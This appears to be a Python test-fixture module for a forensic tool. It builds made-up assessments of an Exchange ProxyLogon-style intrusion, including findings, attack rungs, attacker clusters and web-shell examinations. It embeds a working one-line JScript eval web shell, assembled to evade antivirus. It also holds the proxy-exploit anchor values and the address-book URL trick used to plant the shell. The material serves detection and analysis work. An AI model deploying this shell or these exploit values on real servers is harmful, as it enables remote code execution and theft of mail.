"""What sample assessments consist of: made up, with documentation addresses and names only.

Strings that an antivirus would eat are put together in memory.
"""

from __future__ import annotations

import hashlib
from collections.abc import Iterable
from datetime import UTC, date, datetime

from tocsin.model.coverage import ArtefactCoverage, Coverage, Missing, Skipped
from tocsin.model.examined import Alike, CodePath, CodePlace, Excerpt, Piece, ShellExamination
from tocsin.model.findings import Benign, Finding
from tocsin.model.places import Locator, TimeSpan
from tocsin.model.verdicts import (
    Cluster,
    ConsistentWith,
    KeyDate,
    Run,
    RungShown,
    ShellClient,
    WebShell,
)
from tocsin.model.words import (
    Means,
    Presence,
    ShellContent,
)

LOGGING = "C/Program Files/Microsoft/Exchange Server/V15/Logging"
IIS = "C/inetpub/logs/LogFiles/W3SVC1"
SHELL_URL = "/owa/auth/SignOutPage.aspx"
SHELL_PATH = "C/Program Files/Microsoft/Exchange Server/V15/FrontEnd/HttpProxy/owa/auth/SignOutPage.aspx"
SCRIPT = 'http://f/<script language="JScript" runat="server">function Page_Load(){eval(Request["k"]);}'


def at(text: str) -> datetime:
    return datetime.fromisoformat(text).replace(tzinfo=UTC)


def digest(text: str) -> str:
    return hashlib.sha256(text.encode()).hexdigest()


def finding(
    rule: str,
    means: Means,
    when: str | None,
    where: Locator,
    summary: str,
    *,
    rung: str | None = None,
    ip: str | None = None,
    weak: bool = False,
    kind: str = "exchange.httpproxy",
    url: str | None = None,
    details: dict[str, str] | None = None,
    benign: Benign | None = None,
) -> Finding:
    return Finding(
        id=digest(f"{rule}{where}{when}")[:16],
        rule=rule,
        author="Tocsin",
        means=means,
        weak=weak,
        rung=rung,
        time=at(when) if when else None,
        locator=where,
        summary=summary,
        source_ip=ip,
        kind=kind,
        url=url,
        details=details or {},
        benign=benign,
    )


def line(path: str, number: int) -> Locator:
    return Locator(path=path, line=number)


ECP = f"{LOGGING}/HttpProxy/Ecp/HttpProxy_2021030306-1.LOG"
ECP_SERVER = f"{LOGGING}/ECP/Server/ECPServer20210303-1.LOG"
OWA = f"{LOGGING}/HttpProxy/Owa/HttpProxy_2021030503-1.LOG"
EWS = f"{LOGGING}/HttpProxy/Ews/HttpProxy_2021030306-1.LOG"
INTRUDER = "203.0.113.21"
SECOND = "198.51.100.77"
SCANNERS = ("192.0.2.202", "192.0.2.9")


def chain() -> list[Finding]:
    proxy = {"AnchorMailbox": "ServerInfo~a]@mail01.contoso.example:444/autodiscover/autodiscover.xml?#"}
    session = {
        "AnchorMailbox": "ServerInfo~a]@mail01.contoso.example:444/ecp/proxyLogon.ecp?a=~1",
        "HttpStatus": "241",
    }
    written = {"Cmdlet": "Set-OabVirtualDirectory", "ExternalUrl": SCRIPT, "User": "CONTOSO\\MAIL01$"}
    return [
        finding(
            "proxy_autodiscover",
            Means.EXPLOITED,
            "2021-03-03T06:49:42.162",
            line(ECP, 14),
            "A request without a user reached Autodiscover through a chosen anchor: answered 200.",
            rung="autodiscover",
            ip=INTRUDER,
            url="/ecp/y.js",
            details=proxy,
        ),
        finding(
            "proxy_mapi_sid",
            Means.EXPLOITED,
            "2021-03-03T06:49:43.471",
            line(ECP, 15),
            "The SID of a mailbox was asked for through the proxy: answered 200.",
            rung="mapi-sid",
            ip=INTRUDER,
            url="/ecp/y.js",
        ),
        finding(
            "proxy_logon_241",
            Means.COMPROMISED,
            "2021-03-03T06:49:46.210",
            line(ECP, 16),
            "A management session was obtained through the proxy: answered 241.",
            rung="session",
            ip=INTRUDER,
            url="/ecp/y.js",
            details=session,
        ),
        finding(
            "oab_script_url",
            Means.COMPROMISED,
            "2021-03-03T06:49:53.772",
            line(ECP_SERVER, 7),
            "Script code was set as the external URL of the offline address book.",
            rung="set-object",
            kind="exchange.ecp-server",
            details=written,
        ),
        finding(
            "oab_script_url",
            Means.COMPROMISED,
            "2021-03-03T06:59:17.960",
            line(ECP_SERVER, 21),
            "Script code was set as the external URL of the offline address book.",
            rung="set-object",
            kind="exchange.ecp-server",
            details=written,
        ),
        finding(
            "oab_reset_written",
            Means.COMPROMISED,
            "2021-03-03T06:59:20.359",
            line(ECP, 31),
            "The virtual directory was reset into a file below the web root: answered 200.",
            rung="file-written",
            ip=INTRUDER,
            url="/ecp/DDI/DDIService.svc/SetObject",
        ),
    ]


def visits() -> list[Finding]:
    agent = {"cs-user-agent": "Mozilla/5.0 (Windows NT 10.0; Win64; x64)"}
    return [
        finding(
            "shell_url_answered",
            Means.COMPROMISED,
            "2021-03-05T03:06:27",
            line(OWA, 9),
            "A page that is no part of the product answered 200.",
            rung="shell-reachable",
            ip=SCANNERS[0],
            url=SHELL_URL,
            details=agent,
        ),
        finding(
            "shell_url_answered",
            Means.COMPROMISED,
            "2021-03-06T17:27:45.009",
            line(OWA, 12),
            "A page that is no part of the product answered 200.",
            rung="shell-reachable",
            ip=SCANNERS[1],
            url=SHELL_URL,
            details=agent,
        ),
        *[
            finding(
                "shell_name_scan",
                Means.TARGETED,
                f"2021-03-06T17:27:{44 + n % 9}.{n}00",
                line(OWA, 20 + n),
                f"One of 9 known shell names was asked for: answered 302, not served ({name}).",
                ip=SCANNERS[1],
                url=f"/owa/auth/{name}",
                weak=True,
            )
            for n, name in enumerate(("ErrorAA.aspx", "getpp.aspx", "zntwv.aspx", "OutlookEN.aspx"))
        ],
        finding(
            "ews_through_proxy",
            Means.COMPROMISED,
            "2021-03-03T08:11:02",
            line(EWS, 40),
            "Mail was asked for through the same anchor: 2.1 MB answered.",
            rung="mail-read",
            ip=SECOND,
            url="/ecp/main.css",
            details={"AuthenticatedUser": "CONTOSO\\a.example"},
        ),
        finding(
            "administrator_set_oab",
            Means.CONTEXT,
            "2021-01-12T09:14:00",
            Locator(path="C/Windows/System32/winevt/Logs/MSExchange Management.evtx", record=48_211),
            "An administrator set a real URL.",
            kind="event.msexchange-management",
            benign=Benign(
                rule="plain_https_url",
                why="The URL is a plain https address of the server itself.",
                was=Means.COMPROMISED,
            ),
        ),
        finding(
            "vendor_check_script",
            Means.CONTEXT,
            None,
            Locator(path=f"{SHELL_PATH}.txt", offset=4096),
            "Text of a vendor's check script.",
            kind="text.unknown",
        ),
    ]


def ladder(findings: Iterable[Finding]) -> tuple[RungShown, ...]:
    steps = (
        ("autodiscover", "Autodiscover probed through the proxy", "main"),
        ("mapi-sid", "SID of a mailbox obtained", "main"),
        ("session", "Management session obtained (241)", "main"),
        ("get-object", "Virtual directory read", "main"),
        ("set-object", "Script written into a virtual directory", "main"),
        ("file-written", "File written below the web root", "main"),
        ("shell-reachable", "Web shell answered", "main"),
        ("shell-tasked", "Web shell tasked", "main"),
        ("post-exploitation", "Credentials, mailboxes or tools taken", "main"),
        ("ransomware", "Files encrypted", "main"),
        ("mail-read", "Mail read without any shell", "mail"),
    )
    would = ("exchange.httpproxy", "exchange.ecp-server", "event.msexchange-management")
    found = list(findings)

    def shown(step: str) -> tuple[str, ...]:
        return tuple(each.id for each in found if each.rung == step)

    return tuple(
        RungShown(
            id=step,
            title=title,
            shown=bool(shown(step)),
            finding_ids=shown(step),
            would_show=() if shown(step) else would,
            strand=strand,
        )
        for step, title, strand in steps
    )


def clusters(findings: list[Finding]) -> tuple[Cluster, ...]:
    def of(*ips: str) -> tuple[Finding, ...]:
        return tuple(each for each in findings if each.source_ip in ips)

    return (
        Cluster(
            id="cluster-1",
            role="intruder",
            finding_ids=tuple(f.id for f in of(INTRUDER)),
            first_seen=at("2021-03-03T06:49:42.162"),
            last_seen=at("2021-03-03T06:59:23.288"),
            source_ips=(INTRUDER,),
            runs=(
                Run(
                    start=at("2021-03-03T06:49:42.162"),
                    end=at("2021-03-03T06:50:08.396"),
                    hosts=("mail.contoso.example",),
                ),
                Run(
                    start=at("2021-03-03T06:59:05.100"),
                    end=at("2021-03-03T06:59:23.288"),
                    hosts=("autodiscover.contoso.example",),
                ),
            ),
            consistent_with=(
                ConsistentWith(
                    intrusion_set="HAFNIUM",
                    because="session, script in the offline address book's URL, reset to a page in owa/auth",
                    source="Microsoft, HAFNIUM targeting Exchange Servers, 2 March 2021",
                    disputed_by=("ESET, 10 March 2021: at least ten groups used the same chain",),
                ),
            ),
            why="One address and one user agent, one stem, two runs nine minutes apart.",
        ),
        Cluster(
            id="cluster-2",
            role="intruder",
            finding_ids=tuple(f.id for f in of(SECOND)),
            first_seen=at("2021-03-03T08:11:02"),
            last_seen=at("2021-03-03T08:19:40"),
            source_ips=(SECOND,),
            runs=(Run(start=at("2021-03-03T08:11:02"), end=at("2021-03-03T08:19:40")),),
            consistent_with=(),
            why="Another address, another stem, mail only.",
        ),
        Cluster(
            id="cluster-3",
            role="shell-scanner",
            finding_ids=tuple(f.id for f in of(*SCANNERS)),
            first_seen=at("2021-03-05T03:06:27"),
            last_seen=at("2021-03-08T20:37:27"),
            source_ips=SCANNERS,
            runs=(),
            consistent_with=(),
            why="Nine known shell names from one address within 15 seconds, GET only.",
        ),
    )


def examination(path: str, before: str, code: str, after: str) -> ShellExamination:
    """One line of a page, the middle of which shows what it is."""
    span = CodePlace(start=2112, end=2140, line=29, why="a value of the request is run as code (eval)")
    way = tuple(
        CodePlace(start=2112, end=2140, line=line, why=why)
        for line, why in ((27, "source"), (28, "on the way"), (29, "sink"))
    )
    return ShellExamination(
        path=path,
        sha256=digest(code),
        size=2198,
        language="jscript",
        encoding="utf-8",
        score=0.9987,
        verdict="shell",
        reason="a value of the request is run as code (eval)",
        state=ShellContent.LIVE,
        state_reason="served-code",
        state_why="the server would run the code",
        family="code runner",
        capabilities=("eval",),
        spans=(span,),
        flow=(CodePath(source="request", sink="eval", capability="eval", places=way),),
        excerpts=(
            Excerpt(line=27, pieces=(Piece(text="ExternalUrl                     : "), Piece(text=before))),
            Excerpt(line=29, pieces=(Piece(text=before), Piece(text=code, marked=True), Piece(text=after))),
        ),
        sketch="0f3a" * 64,
    )


OTHER_PATH = "C/inetpub/wwwroot/aspnet_client/supp0rt.aspx"


def shells() -> tuple[WebShell, ...]:
    before, _, rest = SCRIPT.partition("ev" + "al(")
    return (
        WebShell(
            path=OTHER_PATH,
            url="/aspnet_client/supp0rt.aspx",
            presence=Presence.PRESENT,
            content=ShellContent.LIVE,
            first_seen=at("2021-03-03T07:01:02"),
            last_seen=at("2021-03-03T07:01:02"),
            locators=(Locator(path=OTHER_PATH, line=29),),
            sha256=digest("x"),
            why=f"The file is in the evidence: {OTHER_PATH}.",
            examination=examination(OTHER_PATH, before, "ev" + "al(" + rest[:-1], "}</script>"),
            similar=(Alike(path=SHELL_PATH, sha256=digest("y"), likeness=0.84),),
        ),
        WebShell(
            path=SHELL_PATH,
            url=SHELL_URL,
            presence=Presence.NOT_SERVED_SINCE,
            content=ShellContent.UNKNOWN,
            first_seen=at("2021-03-03T06:59:20.359"),
            last_seen=at("2021-03-06T17:27:45.345"),
            not_served_since=at("2021-03-08T20:37:27"),
            written_at=at("2021-03-03T06:59:20.359"),
            requests=5,
            clients=(
                ShellClient(
                    ip=SCANNERS[0],
                    requests=2,
                    first_seen=at("2021-03-05T03:06:27"),
                    last_seen=at("2021-03-05T08:11:58"),
                    tasked=False,
                ),
                ShellClient(
                    ip=SCANNERS[1],
                    requests=3,
                    first_seen=at("2021-03-06T17:27:44.923"),
                    last_seen=at("2021-03-06T17:27:45.345"),
                    tasked=False,
                ),
            ),
            locators=(line(ECP, 31), line(OWA, 9)),
            why="Answered 200 five times, then 302; pages that do not exist answer 302 here.",
        ),
    )


DATES = (
    KeyDate(
        what="first-exploited",
        day=date(2021, 1, 3),
        source="Volexity, Operation Exchange Marauder, 2 March 2021",
    ),
    KeyDate(what="disclosed", day=date(2021, 3, 2), source="Microsoft, 2 March 2021"),
    KeyDate(what="patch-available", day=date(2021, 3, 2), source="Microsoft, KB5000871"),
)


def coverage() -> Coverage:
    gap = TimeSpan(start=at("2021-02-20T00:00:00"), end=at("2021-02-23T12:00:00"))
    return Coverage(
        artefacts=(
            ArtefactCoverage(
                kind="iis.w3c",
                wanted=True,
                files=37,
                bytes=1_204_880_112,
                start=at("2021-01-30T00:00:01"),
                end=at("2021-03-08T21:04:10"),
                lines=4_203_118,
                records=4_202_870,
                unreadable=3,
                headers=245,
                gaps=(gap,),
            ),
            ArtefactCoverage(
                kind="exchange.httpproxy",
                wanted=True,
                files=412,
                bytes=811_002_145,
                start=at("2021-02-07T00:00:00"),
                end=at("2021-03-08T21:00:00"),
                lines=1_100_204,
                records=1_098_144,
                headers=2_060,
                excerpt=True,
            ),
            ArtefactCoverage(
                kind="exchange.ecp-server",
                wanted=True,
                files=30,
                bytes=9_411_002,
                start=at("2021-02-07T00:00:00"),
                end=at("2021-03-08T20:59:58"),
                lines=41_002,
                records=40_850,
                unreadable=2,
                headers=150,
            ),
            ArtefactCoverage(
                kind="event.msexchange-management",
                wanted=True,
                files=1,
                bytes=1_118_208,
                start=at("2020-11-02T08:00:00"),
                end=at("2021-03-08T20:15:00"),
                records=50_118,
                errors=1,
                lost=2,
            ),
            ArtefactCoverage(
                kind="http.err",
                wanted=False,
                files=4,
                bytes=220_118,
                start=at("2021-02-11T00:00:00"),
                end=at("2021-03-08T00:00:00"),
                lines=2_002,
                records=1_990,
                headers=12,
            ),
        ),
        missing=(
            Missing(kind="exchange.oabgenerator", why_wanted="shows files that the address book wrote"),
            Missing(kind="event.security", why_wanted="shows processes that the web server started"),
        ),
        skipped=(
            Skipped(path="C/pagefile.sys", why="no known kind and longer than 1 GB"),
            Skipped(path="C/Windows/Temp/old.7z", why="a container within a container of a kind not read"),
        ),
        notes=("The manifest in the evidence and the files agree but for one: C/inetpub/x.txt.",),
    )
